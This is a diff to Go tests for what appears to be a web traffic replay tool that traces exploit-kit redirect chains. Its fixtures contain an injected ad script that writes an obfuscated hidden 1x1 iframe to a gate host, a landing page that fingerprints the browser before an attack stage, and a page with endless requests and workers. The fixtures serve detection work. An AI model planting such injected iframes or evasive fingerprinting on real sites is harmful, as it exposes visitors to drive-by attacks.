@@ -83,7 +83,7 @@ func walkTest(t *testing.T, r *replay.Reading, start *replay.Transaction, limit 
 	for _, s := range res.Steps {
 		t.Logf("%s -> %s (new: %v)", s.From.Request.URL, s.To.Request.URL, s.New)
 	}
-	for _, m := range res.Missed {
+	for _, m := range res.Missed[:min(len(res.Missed), 10)] {
 		t.Logf("missed %s %s: %s", m.Method, m.URL, m.Reason)
 	}
 	nothingLeft(t, res)
@@ -116,21 +116,21 @@ func TestWalkConfirms(t *testing.T) {
 	page := get("http://victim.example/index.php", `<html><body>hello<script src="/ads.js"></script></body></html>`, agent, replay.Field{Name: "Accept-Language", Value: "ja,en-US;q=0.5"})
 	script := exchange("192.168.1.46", "http://victim.example/ads.js", 200, kind("application/javascript"),
 		`var k="gate.example";alert("x");document.write("<ifr"+"ame width=1 height=1 src='http://"+k.split("").reverse().reverse().join("")+"/in?u="+screen.deviceXDPI+"'></ifr"+"ame>");`, agent)
-	gate := exchange("192.168.1.46", "http://gate.example/in?u=undefined", 302, []replay.Field{{Name: "Location", Value: "http://kit.example/land"}}, "", agent)
-	landing := get("http://kit.example/land", `<script>
+	gate := exchange("192.168.1.46", "http://gate.example/in?u=undefined", 302, []replay.Field{{Name: "Location", Value: "https://kit.example/land"}}, "", agent)
+	landing := get("https://kit.example/land", `<script>
 		var late = new Date().getFullYear();
 		setTimeout(function() { location.href = "/show?year=" + late + "&ua=" + /MSIE 8/.test(navigator.userAgent) + "&platform=" + navigator.platform +
 			"&language=" + navigator.language + "&driven=" + !!navigator.webdriver; }, 45000);
 		</script>`, agent)
-	show := get("http://kit.example/show?year=2013&ua=true&platform=Win32&language=ja&driven=false", "<p>here it would attack</p>", agent)
+	show := get("https://kit.example/show?year=2013&ua=true&platform=Win32&language=ja&driven=false", "<p>here it would attack</p>", agent)
 	never := get("http://victim.example/clicked", "<p>the victim went here by a link</p>", agent, replay.Field{Name: "Referer", Value: "http://victim.example/index.php"})
 	r := reading(page, script, gate, landing, show, never)
 	res, c := walkTest(t, r, nil, 40*time.Second)
 	want := []string{
 		"http://victim.example/index.php -> http://victim.example/ads.js",
 		"http://victim.example/ads.js -> http://gate.example/in?u=undefined",
-		"http://gate.example/in?u=undefined -> http://kit.example/land",
-		"http://kit.example/land -> " + show.Request.URL.String(),
+		"http://gate.example/in?u=undefined -> https://kit.example/land",
+		"https://kit.example/land -> " + show.Request.URL.String(),
 	}
 	if got := steps(res); !slices.Equal(got, want) {
 		t.Errorf("steps %q, want %q", got, want)
@@ -180,7 +180,7 @@ func TestNothingLeaves(t *testing.T) {
 // A page that never comes to rest is left when the time is up, with all that runs.
 func TestWalkEnds(t *testing.T) {
 	agent := fmt.Sprintf("walk-ends/%d", os.Getpid()) // is in the command line of what runs
-	page := get("http://victim.example/", `<script>setInterval(function() { new Image().src = "/x" + Math.random(); }, 5); for (var i = 0; i < 3; i++) new Worker("/w.js")</script>`,
+	page := get("http://victim.example/", `<script>var n = 0; function on() { fetch("/x" + n++).then(on, on); } on(); for (var i = 0; i < 3; i++) new Worker("/w.js")</script>`,
 		replay.Field{Name: "User-Agent", Value: agent})
 	worker := exchange("192.168.1.46", "http://victim.example/w.js", 200, kind("application/javascript"), `for (;;);`)
 	done, ran := make(chan struct{}), make(chan bool)
@@ -199,8 +199,11 @@ func TestWalkEnds(t *testing.T) {
 	const limit = 4 * time.Second
 	began := time.Now()
 	res, _ := walkTest(t, reading(page, worker), nil, limit)
-	if took := time.Since(began); took > limit+grace || !res.Timeout {
-		t.Errorf("it took %v, timeout %v", took, res.Timeout)
+	if took := time.Since(began); took > limit+grace || !res.Timeout || res.Died {
+		t.Errorf("it took %v, timeout %v, died %v", took, res.Timeout, res.Died)
+	}
+	if res.Asked < 20 || len(res.Missed) != min(res.Asked-len(res.Answered), maxMissed) {
+		t.Errorf("%d asked, %d answered, %d missed: it did not ask without an end", res.Asked, len(res.Answered), len(res.Missed))
 	}
 	close(done)
 	if !<-ran {
